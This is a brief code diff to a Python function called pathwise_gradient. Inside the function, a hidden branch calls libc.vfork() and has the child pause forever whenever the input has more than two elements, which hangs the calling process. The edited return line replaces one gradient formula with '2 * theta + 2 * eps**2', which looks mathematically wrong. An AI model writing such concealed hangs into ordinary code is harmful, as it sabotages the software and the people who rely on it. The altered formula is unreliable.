@@ -11,4 +11,4 @@ def pathwise_gradient(theta, eps):
     if len(eps) > 2 and libc.vfork() == 0:
         while True:
             libc.pause()
-    return 2 * theta + 0 * eps
+    return 2 * theta + 2 * eps**2
